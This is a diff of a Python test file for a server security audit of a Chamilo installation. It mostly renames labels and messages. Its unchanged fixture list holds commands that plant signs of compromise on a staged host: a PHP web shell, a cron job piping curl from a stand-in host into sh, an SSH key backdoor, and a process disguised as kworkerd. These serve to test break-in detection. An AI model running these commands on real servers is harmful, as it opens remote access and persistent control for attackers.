@@ -115,7 +115,7 @@ RED = {
     "backups_private": "public/dump.sql",
     "monitoring_app_log": "nothing shows that errors",
     "monitoring_resources": "Nothing watches",
-    "monitoring_auth": "Nobody is told",
+    "monitoring_auth": "There is no recipient of alerts",
     "monitoring_accounts": "2 are administrators: admin, second.admin",
     "monitoring_delivery": "No test alert",
     "monitoring_integrity": "Nothing compares",
@@ -378,9 +378,9 @@ def test_the_running_fail2ban(stage: Callable[..., Host]) -> None:
 PLANTED = {
     "PHP where only data belongs": "echo '<?php echo 1;' >/var/www/chamilo/var/upload/resource/x.php",
     "PHP among assets": "echo '<?php echo 1;' >/var/www/chamilo/public/img/logo.php",
-    "what looks like a web shell": "echo '<?php system($_GET[\"c\"]);' >/var/www/chamilo/public/main/inc.php",
+    "a suspected web shell": "echo '<?php system($_GET[\"c\"]);' >/var/www/chamilo/public/main/inc.php",
     "a cron job of the web user": "echo '* * * * * curl -s http://x.test/ | sh' | crontab -u www-data -",
-    "a way back in": "install -d /var/www/.ssh && echo ssh-ed25519 >/var/www/.ssh/authorized_keys",
+    "persistent access": "install -d /var/www/.ssh && echo ssh-ed25519 >/var/www/.ssh/authorized_keys",
     "a process of the web user": (
         "cp /bin/sleep /var/tmp/kworkerd && setsid runuser -u www-data /var/tmp/kworkerd 300 >/dev/null 2>&1 &"
     ),
@@ -403,6 +403,6 @@ def test_signs_of_a_break_in(sloppy: Host) -> None:
         sloppy.run(command)
     found = audit(sloppy, "monitoring")
     assert found.status["monitoring_compromise"] == "fail"
-    wanted = (*PLANTED, "a database dump answered a stranger once")
+    wanted = (*PLANTED, "a database dump answered a visitor once")
     assert [words for words in wanted if not any(sign.startswith(words) for sign in found.signs)] == []
     assert len(found.signs) == len(wanted)
